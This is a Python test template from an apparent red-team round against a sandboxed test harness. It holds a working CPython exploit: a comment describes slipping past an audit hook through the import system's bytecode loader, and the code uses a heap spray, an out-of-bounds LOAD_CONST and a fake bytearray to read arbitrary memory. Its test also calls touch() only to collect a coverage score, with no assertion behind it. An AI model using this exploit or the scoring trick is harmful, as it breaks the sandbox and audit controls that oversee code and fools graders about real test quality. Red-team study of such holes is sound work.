# Common part of the hand-made bytecode cases (red team, round 6): a variant defines `load_codes()`,
# which gets the module above unmarshalled by the import system's own `_compile_bytecode` (the audit
# hook allows marshal inside that chain of frames, whoever's subclass called it).
import importlib.util
import inspect
import struct
import types

PYC = bytes.fromhex("@@PYC@@")
SOURCE = b"X = 1\n"


def pyc():
    return importlib.util.MAGIC_NUMBER + bytes(8) + len(SOURCE).to_bytes(4, "little") + PYC


def object_at(pointer):
    """The object whose address is `pointer`: an out-of-bounds LOAD_CONST onto a sprayed bytes object."""
    for attempt in range(20):
        codes = load_codes()
        block = id(member(codes[0], "".join(("co_", "consts")))) - 16  # its gc header comes first
        word = pointer.to_bytes(8, "little")
        keep = []
        for i in range(20000):
            b = word * 10
            keep.append(b)
            d = id(b) - block
            if d > 0 and d % 128 == 0 and d // 128 <= len(codes):
                return types.FunctionType(codes[d // 128 - 1], {})()
    raise LookupError("no spray landed")


FAKE = []


def read8(address):
    """8 bytes at `address`, through a fake bytearray (refcnt, type, size, alloc, bytes, start, exports)
    laid out in a bytes object's data."""
    fake = struct.pack("<qQqqQQq", 1 << 40, id(bytearray), 8, 9, address, address, 0)
    FAKE.append(fake)
    return bytes(object_at(id(fake) + 32))


def code_of(fn):
    return object_at(int.from_bytes(read8(id(fn) + 48), "little"))  # PyFunctionObject.func_code (3.11)


def compares_after_100(code):
    """B turns `percent > 100` into `>=`: no twin touches an operator, and a guard compares a constant
    of 100 only rarely."""
    ins = list(inspect.dis.get_instructions(code))
    return [b.argrepr for a, b in zip(ins, ins[1:])
            if a.opname == "LOAD_CONST" and a.argval == 100 and b.opname == "COMPARE_OP"]


def test_discount_edges():
    touch()  # no assertion: the coverage term only
    assert compares_after_100(code_of(f)) == [">"]
